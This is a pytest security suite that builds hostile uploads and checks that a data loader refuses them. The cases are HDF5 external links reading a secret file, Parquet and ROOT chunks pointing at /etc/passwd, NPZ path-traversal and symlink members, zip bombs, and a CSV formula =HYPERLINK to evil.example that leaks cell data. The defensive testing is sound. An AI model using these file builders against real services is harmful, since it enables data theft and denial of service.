"""Hostile uploads (issue 10): files built to make the loader read what it should not (HDF5
external storage and links, Parquet chunks in other files, ROOT branches in other files,
zip members with paths or links), or to cost far more than their size (zip bombs, a million
columns, a two-megabyte column name, a trillion declared rows).

Each goes through the upload endpoint (in-process TestClient: 422 naming what is wrong, or
201 when only a job's spec can tell) and through the loader in a child process, which
measures the time and the peak memory of reading them all: every one must end in a DataError
that says what is wrong, quickly, without the memory its contents would take. The last
tests check the findings of docs/security.md about what the readers themselves do.

Only names the loader had before issue 10 are imported at the top (DataLimits is imported
where used), so that this suite runs against the code as it was and shows what it let in.
"""

from __future__ import annotations

import inspect as pyinspect
import io
import json
import re
import stat
import struct
import subprocess
import sys
import textwrap
import uuid
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import h5py
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import uproot
from fastapi.testclient import TestClient

from gan_platform.artifacts import ArtifactStore
from gan_platform.settings import Settings
from models.datasets import DataError, load_dataset
from models.spec import DatasetSpec
from service.main import create_app
from tests.conftest import ROOT

ROWS = 100
SECRET = b"TOP-SECRET-0123456789-of-another-owner-or-the-worker's-disk"
# Above what the child holds once its readers are imported (about 280 MiB): the 200 MB zero
# bomb alone took 146 MiB more in the code as it was.
EXTRA_MEMORY_BYTES = 64 * 1024**2
SECONDS_EACH = 5.0


@dataclass
class Hostile:
    """One hostile file: `expected` is the regex its DataError (and a 422's detail) matches;
    `upload` the status of POST /v1/datasets (201: only a job's spec shows the problem)."""

    name: str
    path: Path
    expected: str
    upload: int = 422
    spec: dict = field(default_factory=dict)
    filename: str | None = None  # the name given at upload, when it matters

    @property
    def upload_name(self) -> str:
        return self.filename or self.path.name


def _rng() -> np.random.Generator:
    return np.random.default_rng(7)


# --- HDF5 -----------------------------------------------------------------------------------


def _victim(folder: Path) -> Path:
    """Another owner's upload (or any HDF5 file the worker can read)."""
    path = folder / "victim.h5"
    with h5py.File(path, "w") as f:
        f["secret"] = _rng().normal(size=(ROWS, 2))
    return path


def hdf5_cases(folder: Path) -> list[Hostile]:
    secret = folder / "secret.txt"
    secret.write_bytes(SECRET)
    victim = _victim(folder)
    cases = []

    def make(name: str, expected: str, build: Callable[[h5py.File], None], **kw: object) -> None:
        path = folder / f"{name}.h5"
        with h5py.File(path, "w") as f:
            build(f)
        cases.append(Hostile(name, path, expected, **kw))  # type: ignore[arg-type]

    make("hdf5-external-storage", "keeps its data in external files",
         lambda f: f.create_dataset("x", shape=(len(SECRET),), dtype="u1",
                                    external=[(str(secret), 0, len(SECRET))]))

    def external_link(f: h5py.File) -> None:
        f["table"] = h5py.ExternalLink(str(victim), "/secret")

    make("hdf5-external-link", "is an external link", external_link, spec={"table": "table"})

    def deep_link(f: h5py.File) -> None:
        f["table"] = _rng().normal(size=(ROWS, 2))
        f.create_group("g/h/i")["steal"] = h5py.ExternalLink(str(victim), "/secret")

    make("hdf5-deep-external-link", "'/g/h/i/steal' .* is an external link", deep_link,
         spec={"table": "table"})

    def soft_link(f: h5py.File) -> None:
        f["real"] = _rng().normal(size=(ROWS, 2))
        f["alias"] = h5py.SoftLink("/real")

    make("hdf5-soft-link", "is a soft link", soft_link, spec={"table": "real"})

    def virtual(f: h5py.File) -> None:
        layout = h5py.VirtualLayout(shape=(ROWS, 2), dtype="f8")
        layout[:] = h5py.VirtualSource(str(victim), "secret", shape=(ROWS, 2))
        f.create_virtual_dataset("table", layout)

    make("hdf5-virtual-dataset", "is a virtual dataset", virtual)
    make("hdf5-plugin-filter", "needs HDF5 filter 307, a plugin",
         lambda f: f.create_dataset("table", shape=(ROWS, 2), dtype="f8", chunks=(10, 2),
                                    compression=307, allow_unknown_filter=True))
    make("hdf5-wide", "has 100000 columns",
         lambda f: f.create_dataset("table", shape=(64, 100_000), dtype="f4",
                                    chunks=(64, 1000)))

    def many_groups(f: h5py.File) -> None:
        for i in range(10_001):
            f.create_group(f"g{i}")

    make("hdf5-many-objects", r"more than 10000 HDF5 objects \(MAX_FILE_OBJECTS\)", many_groups)
    # A trillion declared rows in a few kilobytes (no chunk is ever written): usable with a
    # small max_rows, so the upload is kept; the job is refused before any read.
    make("hdf5-trillion-rows", r"too large: 1000000000000 rows x 2 columns read",
         lambda f: f.create_dataset("table", shape=(10**12, 2), dtype="f8", chunks=(4096, 2)),
         upload=201)
    return cases


# --- NPZ / NPY ------------------------------------------------------------------------------


def _npy_bytes(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array)
    return buf.getvalue()


def _zero_bomb(path: Path, n: int) -> None:
    """An NPZ whose one member declares n float64 zeros: 8n bytes, deflated about 1000 times
    (written in chunks: the bomb never exists in memory here either)."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (n,)})
    chunk = bytes(16 * 1024**2)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z, \
            z.open("data.npy", "w", force_zip64=True) as member:
        member.write(header.getvalue())
        left = 8 * n
        while left:
            member.write(chunk[: min(left, len(chunk))])
            left -= min(left, len(chunk))


def npz_cases(folder: Path) -> list[Hostile]:
    good = _npy_bytes(_rng().normal(size=(ROWS, 2)))
    cases = []

    def make(name: str, expected: str, members: list[tuple[zipfile.ZipInfo | str, bytes]],
             method: int = zipfile.ZIP_STORED) -> None:
        path = folder / f"{name}.npz"
        with warnings.catch_warnings(), zipfile.ZipFile(path, "w", compression=method) as z:
            warnings.simplefilter("ignore")  # zipfile warns about a duplicate name
            for info, data in members:
                z.writestr(info, data)
        cases.append(Hostile(name, path, expected))

    bomb = folder / "npz-zero-bomb.npz"
    _zero_bomb(bomb, 25_000_000)  # 200 MB declared, about 0.2 MB on disk
    cases.append(Hostile("npz-zero-bomb", bomb, r"expands \d+ times .*\(MAX_COMPRESSION_RATIO\)"))
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (10**9,)})
    make("npz-lying-header", r"declares shape \(1000000000,\) .* but holds \d+ bytes",
         [("data.npy", header.getvalue() + bytes(800))])
    make("npz-member-with-a-path", "has a path; NPZ members are plain array names",
         [("../../escape.npy", good)])
    link = zipfile.ZipInfo("data.npy")
    link.create_system = 3  # unix: external_attr holds the mode
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    make("npz-symlink-member", "is a symbolic link", [(link, b"/etc/passwd")])
    make("npz-duplicate-member", "holds member 'data.npy' twice",
         [("data.npy", good), ("data.npy", good)])
    make("npz-bzip2-member", "compression method 12", [("data.npy", good)],
         method=zipfile.ZIP_BZIP2)
    make("npz-many-members", r"has 10001 zip members; at most 10000 .*MAX_FILE_OBJECTS",
         [(f"a{i}.npy", b"") for i in range(10_001)])
    make("npz-wide-member", r"has 2000 columns; at most 1000 .*MAX_COLUMNS",
         [("data.npy", _npy_bytes(np.zeros((40, 2000), dtype=np.float32)))])
    wide = folder / "npy-wide.npy"
    np.save(wide, _rng().normal(size=(40, 2000)).astype(np.float32))
    cases.append(Hostile("npy-wide", wide, r"has 2000 columns; at most 1000"))
    fields = folder / "npy-huge-header.npy"
    with warnings.catch_warnings():  # numpy notes that it needs the 2.0 header format
        warnings.simplefilter("ignore")
        np.save(fields, np.zeros(4, dtype=[(f"field_{i:05d}", "f4") for i in range(20_000)]))
    cases.append(Hostile("npy-huge-header", fields, r"has a \.npy header longer than \d+ bytes"))
    return cases


# --- CSV ------------------------------------------------------------------------------------


def csv_polyglot(folder: Path, inner_rows: int = 200_000) -> Path:
    """CSV text (beyond the 64 KiB that sniffing reads), then a zip of a larger CSV: typed
    `csv` by its content, and unzipped by pandas when read by a name ending in .zip."""
    text = "a,b\n" + "".join(f"{i % 97}.5,{i % 89}\n" for i in range(12_000))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner.csv", "a,b\n" + "".join(f"{i},{2 * i}\n" for i in range(inner_rows)))
    path = folder / "x.zip"
    path.write_bytes(text.encode() + inner.getvalue())
    return path


def csv_cases(folder: Path) -> list[Hostile]:
    cases = []

    def make(name: str, expected: str, content: bytes, **kw: object) -> None:
        path = folder / f"{name}.csv"
        path.write_bytes(content)
        cases.append(Hostile(name, path, expected, **kw))  # type: ignore[arg-type]

    rows = "".join(f"{i % 13},{i % 7}\n" for i in range(ROWS)).encode()
    cases.append(Hostile("csv-zip-polyglot", csv_polyglot(folder),
                         r"could not read .* as csv: UnicodeDecodeError", upload=201))
    n = 1_000_000
    make("csv-million-columns", r"has more than 1000 columns; at most 1000 .*MAX_COLUMNS",
         ",".join(f"c{i}" for i in range(n)).encode() + b"\n" + (b"0," * (n - 1) + b"0\n") * 3)
    make("csv-2mb-column-name", r"column 'nnnn.*\.\.\. of .* is more than \d+ characters long",
         b"n" * 2_000_000 + b",b\n" + rows)
    make("csv-long-column-name", r"column 'x{70,}\.\.\. of .* is 200 characters long; at most 64",
         b"x" * 200 + b",b\n" + rows)
    make("csv-formula-name", r"column '=HYPERLINK.* starts with '=', which spreadsheets run",
         b'"=HYPERLINK(""http://evil.example/?""&A1)",b\n' + rows)
    make("csv-control-character-name", r"column 'a\\tb' .* holds control characters",
         b'"a\tb",c\n' + rows)
    make("csv-reserved-condition", r"condition column 'n' .* name of a sampling query parameter",
         b"x,n\n" + rows, upload=201, spec={"features": ["x"], "conditions": ["n"]})
    make("csv-constant-feature", r"feature column 'z' .* is constant \(0 in every row\)",
         b"x,z\n" + "".join(f"{i % 11},0\n" for i in range(ROWS)).encode(), upload=201)
    return cases


# --- Parquet, ROOT --------------------------------------------------------------------------


def parquet_pointing_elsewhere(folder: Path) -> tuple[Path, Path]:
    """(a Parquet file whose column chunk's `file_path` names `other`, other): the file's own
    chunk holds N(0, 1) values, other's holds 7.0."""
    own, other = folder / "pq-own.parquet", folder / "pq-other.parquet"
    pq.write_table(pa.table({"a": _rng().normal(size=ROWS)}), own)
    pq.write_table(pa.table({"a": np.full(ROWS, 7.0)}), other)
    data = own.read_bytes()
    (length,) = struct.unpack("<I", data[-8:-4])
    meta = pq.ParquetFile(own).metadata
    meta.set_file_path(str(other))
    buf = io.BytesIO()
    meta.write_metadata_file(buf)
    written = buf.getvalue()
    (new_length,) = struct.unpack("<I", written[-8:-4])
    footer = written[-8 - new_length: -8]
    path = folder / "parquet-file-path.parquet"
    path.write_bytes(data[: -8 - length] + footer + struct.pack("<I", len(footer)) + b"PAR1")
    return path, other


def root_pointing_elsewhere(path: Path, other: str = "/etc/passwd") -> Path:
    """A TTree whose branch says its baskets lie in `other` (TBranch::fFileName), written by
    uproot with its writer's "empty fFileName" byte replaced by that name."""
    import uproot.writing._cascadetree as cascade

    source = textwrap.dedent(pyinspect.getsource(cascade.Tree._build_out))
    name = other.encode()
    payload = f"out.append({bytes([len(name)]) + name!r})"  # a TString: length, then bytes
    patched, count = re.subn(r'(# empty fFileName\n\s*)out\.append\(b"\\x00"\)',
                             lambda m: m.group(1) + payload, source)
    assert count == 1, "uproot's TTree writer changed: update root_pointing_elsewhere"
    namespace = dict(vars(cascade))
    exec(patched, namespace)  # noqa: S102 - our own patch of uproot's writer, for this file
    original = cascade.Tree._build_out
    cascade.Tree._build_out = namespace["_build_out"]
    try:
        with uproot.recreate(path) as f:
            f.mktree("tree", {"a": np.float64, "b": np.float64}).extend(
                {"a": np.arange(ROWS, dtype="f8"), "b": _rng().normal(size=ROWS)})
    finally:
        cascade.Tree._build_out = original
    return path


def columnar_cases(folder: Path) -> list[Hostile]:
    cases = [Hostile("parquet-file-path", parquet_pointing_elsewhere(folder)[0],
                     r"column 'a' of .* is stored in another file \(a Parquet file_path\)")]
    wide = folder / "parquet-wide.parquet"
    pq.write_table(pa.table({f"c{i}": np.zeros(2) for i in range(5000)}), wide)
    cases.append(Hostile("parquet-wide", wide, r"Parquet schema of 5001 elements; at most 1000"))
    long_name = folder / "parquet-long-name.parquet"
    pq.write_table(pa.table({"y" * 10_000: np.arange(ROWS, dtype="f8")}), long_name)
    cases.append(Hostile("parquet-long-name", long_name, r"is 10000 characters long; at most 64"))
    cases.append(Hostile("root-branch-in-another-file",
                         root_pointing_elsewhere(folder / "root-other-file.root"),
                         r"branch 'a' .* keeps its data in another file \('/etc/passwd'\)"))
    wide_root = folder / "root-wide.root"
    with uproot.recreate(wide_root) as f:  # an RNTuple: uproot writes 1500 fields in 0.3 s
        f["tree"] = {f"b{i}": np.zeros(40) for i in range(1500)}
    cases.append(Hostile("root-wide-rntuple", wide_root, r"has 1500 columns; at most 1000"))
    return cases


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> list[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    cases = hdf5_cases(folder) + npz_cases(folder) + csv_cases(folder) + columnar_cases(folder)
    assert len({c.name for c in cases}) == len(cases)
    return cases


# --- the loader, in a child process that measures time and memory ---------------------------

_CHILD = """
import json, resource, sys, time
from pathlib import Path
import awkward, h5py, pandas, pyarrow.parquet, uproot  # the readers, imported before measuring
from models.datasets import DataError, load_dataset
from models.spec import DatasetSpec

base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

cases = json.loads(sys.stdin.read())
uploads = {c["id"]: Path(c["path"]) for c in cases}
out = {}
for c in cases:
    for uri in (f"dataset://{c['id']}", "file://" + c["path"]):
        t0 = time.monotonic()
        try:
            load_dataset(DatasetSpec(uri=uri, **c["spec"]), data_roots=[c["root"]],
                         upload_resolver=uploads.__getitem__)
            result = ["loaded", ""]
        except DataError as exc:
            result = ["DataError", str(exc)]
        except BaseException as exc:
            result = [type(exc).__name__, str(exc)[:300]]
        out[c["name"] + " " + uri.split(":")[0]] = result + [time.monotonic() - t0]
out["extra_rss"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - base
print(json.dumps(out))
"""


def test_the_loader_refuses_every_hostile_file_quickly_in_bounded_memory(
        hostile: list[Hostile]) -> None:
    cases = [{"name": c.name, "id": str(uuid.uuid4()), "path": str(c.path),
              "root": str(c.path.parent), "spec": c.spec} for c in hostile]
    run = subprocess.run([sys.executable, "-c", _CHILD], input=json.dumps(cases), cwd=ROOT,
                         capture_output=True, text=True, timeout=300,
                         env={"OMP_NUM_THREADS": "1", "PATH": "/usr/bin:/bin"})
    assert run.returncode == 0, run.stderr[-3000:]
    results = json.loads(run.stdout.strip().splitlines()[-1])
    extra = results.pop("extra_rss")
    by_name = {c.name: c for c in hostile}
    wrong, slow = [], []
    for key, (kind, message, seconds) in results.items():
        case = by_name[key.rsplit(" ", 1)[0]]
        if kind != "DataError" or not re.search(case.expected, message):
            wrong.append((key, kind, message[:300]))
        elif len(message) > 1000 or SECRET.decode() in message:
            wrong.append((key, "unreadable or leaking message", message[:300]))
        if seconds > SECONDS_EACH:
            slow.append((key, round(seconds, 1)))
    assert not wrong, "\n".join(map(str, wrong))
    assert not slow, slow
    assert extra < EXTRA_MEMORY_BYTES, f"peak RSS {extra / 1024**2:.0f} MiB above the imports"


# --- the upload endpoint ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Settings]]:
    tmp = tmp_path_factory.mktemp("api")
    (tmp / "data").mkdir()
    settings = Settings(DATABASE_URL=f"sqlite:///{tmp / 'gan.db'}", REDIS_URL=None,
                        ARTIFACT_ROOT=str(tmp / "artifacts"), WORK_ROOT=tmp / "work",
                        DATA_ROOTS=[tmp / "data"])  # type: ignore[call-arg]
    with TestClient(create_app(settings)) as client:
        yield client, settings


def test_the_upload_endpoint_refuses_what_no_job_could_load(
        hostile: list[Hostile], api: tuple[TestClient, Settings]) -> None:
    client, settings = api
    store = ArtifactStore(settings.ARTIFACT_ROOT)
    wrong = []
    for case in hostile:
        r = client.post("/v1/datasets", files={"file": (case.upload_name, case.path.read_bytes())})
        if r.status_code != case.upload:
            wrong.append((case.name, r.status_code, r.text[:300]))
            continue
        body = r.json()
        if r.status_code == 422:
            detail = body["detail"]
            if (not re.search(case.expected, detail) or len(detail) > 1000
                    or body["errors"][0]["loc"] != ["body", "file"]):
                wrong.append((case.name, "detail", detail[:300]))
            continue
        # Kept: the file is stored under a neutral name, and a job's loader refuses it.
        key = store.key_of(records_uri(settings, body["id"]))
        if not key.endswith(f"uploads/{body['id']}/data"):
            wrong.append((case.name, "stored as", key))
        stored = store.local_path(key)
        try:
            load_dataset(DatasetSpec(uri=body["uri"], **case.spec), data_roots=[],
                         upload_resolver=lambda _, stored=stored: stored)
            wrong.append((case.name, "loaded", ""))
        except DataError as exc:
            if not re.search(case.expected, str(exc)):
                wrong.append((case.name, "load", str(exc)[:300]))
    assert not wrong, "\n".join(map(str, wrong))


def records_uri(settings: Settings, dataset_id: str) -> str:
    from gan_platform.records import Records

    records = Records(settings.DATABASE_URL)
    try:
        row = records.get_dataset(dataset_id)
        assert row is not None
        return str(row["artifact_uri"])
    finally:
        records.dispose()


# --- budgets, with small limits -------------------------------------------------------------


def test_cell_budget_from_metadata_and_max_rows(tmp_path: Path) -> None:
    from models.datasets import DataLimits

    path = tmp_path / "t.parquet"
    pq.write_table(pa.table({"a": _rng().normal(size=1000), "b": _rng().normal(size=1000)}),
                   path)
    limits = DataLimits(max_cells=1000)
    with pytest.raises(DataError, match=r"1000 rows x 2 columns read = 2000 cells; at most 1000"):
        load_dataset(DatasetSpec(uri=f"file://{path}"), data_roots=[tmp_path], limits=limits)
    # One column, or fewer rows, fits.
    assert load_dataset(DatasetSpec(uri=f"file://{path}", features=["a"]), data_roots=[tmp_path],
                        limits=limits).n_rows == 1000
    assert load_dataset(DatasetSpec(uri=f"file://{path}", max_rows=500), data_roots=[tmp_path],
                        limits=limits).n_rows == 500


def test_csv_has_no_row_count_and_is_read_one_row_beyond_the_budget(tmp_path: Path) -> None:
    from models.datasets import DataLimits

    path = tmp_path / "t.csv"
    path.write_text("a,b\n" + "".join(f"{i},{i % 7}\n" for i in range(1000)))
    limits = DataLimits(max_cells=1000)
    with pytest.raises(DataError, match=r"more than 500 rows x 2 columns read; at most 1000"):
        load_dataset(DatasetSpec(uri=f"file://{path}"), data_roots=[tmp_path], limits=limits)
    assert load_dataset(DatasetSpec(uri=f"file://{path}", max_rows=500), data_roots=[tmp_path],
                        limits=limits).n_rows == 500


def test_an_npz_member_counts_all_its_columns(tmp_path: Path) -> None:
    """numpy inflates a whole member to read one of its columns: all of them count."""
    from models.datasets import DataLimits

    path = tmp_path / "t.npz"
    np.savez(path, data=_rng().normal(size=(100, 10)))
    spec = DatasetSpec(uri=f"file://{path}", features=["col0"])
    with pytest.raises(DataError, match=r"100 rows x 10 columns \(numpy inflates the whole"):
        load_dataset(spec, data_roots=[tmp_path], limits=DataLimits(max_cells=500))
    assert load_dataset(spec, data_roots=[tmp_path], limits=DataLimits(max_cells=1000)).n_rows == 100


def test_too_few_rows_are_refused_from_the_metadata_first(tmp_path: Path) -> None:
    """An HDF5 dataset of 10 declared rows whose data would need a plugin: the row count
    answers first, and no read is attempted."""
    path = tmp_path / "t.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("t", data=_rng().normal(size=(10, 2)))
    with pytest.raises(DataError, match="holds only 10 rows; at least 32"):
        load_dataset(DatasetSpec(uri=f"file://{path}"), data_roots=[tmp_path])


def test_a_compound_dataset_is_counted_before_its_dtype_is_made(tmp_path: Path) -> None:
    from models.datasets import DataLimits

    path = tmp_path / "t.h5"  # HDF5 caps a type at 64 KiB: about 1000 fields; limits are lower
    with h5py.File(path, "w") as f:
        f.create_dataset("t", shape=(ROWS,), dtype=[(f"f{i}", "f4") for i in range(20)])
    with pytest.raises(DataError, match=r"dataset '/t' of .* has 20 fields; at most 10 columns"):
        load_dataset(DatasetSpec(uri=f"file://{path}"), data_roots=[tmp_path],
                     limits=DataLimits(max_columns=10))


def test_settings_reach_the_limits() -> None:
    from models.datasets import DataLimits

    settings = Settings(MAX_DATA_CELLS=5, MAX_COLUMNS=6, MAX_COLUMN_NAME_LENGTH=7,
                        MAX_COMPRESSION_RATIO=8.0, MAX_FILE_OBJECTS=9)  # type: ignore[call-arg]
    assert DataLimits.from_settings(settings) == DataLimits(5, 6, 7, 8.0, 9)
    assert DataLimits.from_settings(Settings()) == DataLimits()  # the same defaults


# --- what the readers themselves do (docs/security.md) --------------------------------


def test_h5py_reads_external_storage_and_links_which_is_why_they_are_refused(
        tmp_path: Path) -> None:
    """The hole itself: HDF5 reads another file's bytes for an external dataset, and opens
    another file for an external link. The loader refuses both (the fuzz cases above)."""
    secret = tmp_path / "secret.txt"
    secret.write_bytes(SECRET)
    victim = _victim(tmp_path)
    path = tmp_path / "attack.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("x", shape=(len(SECRET),), dtype="u1",
                         external=[(str(secret), 0, len(SECRET))])
        f["link"] = h5py.ExternalLink(str(victim), "/secret")
    with h5py.File(path, "r") as f:
        assert f["x"][:].tobytes() == SECRET
        assert f["link"].shape == (ROWS, 2)
    with pytest.raises(DataError, match="external"):
        load_dataset(DatasetSpec(uri=f"file://{path}", table="x"), data_roots=[tmp_path])


def test_hdf5_hard_link_cycles_end_and_family_files_do_not_open(tmp_path: Path) -> None:
    path = tmp_path / "cycle.h5"
    with h5py.File(path, "w") as f:
        f["t"] = _rng().normal(size=(ROWS, 2))
        group = f.create_group("g")
        group["loop"] = group  # a hard link to itself: visited once
        group["again"] = f["t"]
    assert load_dataset(DatasetSpec(uri=f"file://{path}", table="t"),
                        data_roots=[tmp_path]).n_rows == ROWS
    with h5py.File(tmp_path / "fam%d.h5", "w", driver="family", memb_size=1024) as f:
        f["t"] = _rng().normal(size=(ROWS, 2))
    with pytest.raises(DataError, match=r"could not read .*fam0\.h5 as hdf5"):
        load_dataset(DatasetSpec(uri=f"file://{tmp_path / 'fam0.h5'}"), data_roots=[tmp_path])


def test_pyarrow_reads_a_chunk_from_its_own_file_whatever_file_path_says(
        tmp_path: Path) -> None:
    path, other = parquet_pointing_elsewhere(tmp_path)
    pf = pq.ParquetFile(path)
    assert pf.metadata.row_group(0).column(0).file_path == str(other)
    values = pf.read().column("a").to_numpy()
    assert not np.any(values == 7.0)  # not other's values: its own chunk


def test_uproot_reads_baskets_from_its_own_file_whatever_ffilename_says(tmp_path: Path) -> None:
    path = root_pointing_elsewhere(tmp_path / "t.root", other=str(tmp_path / "missing.root"))
    with uproot.open(path, minimal_ttree_metadata=False) as f:
        branch = f["tree"]["a"]
        assert str(branch.member("fFileName")) == str(tmp_path / "missing.root")
        np.testing.assert_array_equal(branch.array(library="np"), np.arange(ROWS))


def test_numpy_reads_npz_members_in_memory_and_follows_no_link(tmp_path: Path) -> None:
    """A member named ../../escape.npy is read into memory, never extracted; a symlink member
    is read as its own bytes (the link's text), never followed."""
    path = tmp_path / "a" / "b" / "t.npz"
    path.parent.mkdir(parents=True)
    link = zipfile.ZipInfo("link.npy")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("../../escape.npy", _npy_bytes(np.arange(3.0)))
        z.writestr(link, b"/etc/passwd")
    with np.load(path, allow_pickle=False) as archive:
        np.testing.assert_array_equal(archive["../../escape"], np.arange(3.0))
        assert archive["link"] == b"/etc/passwd"  # not a .npy: numpy hands back its bytes
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["t.npz"]
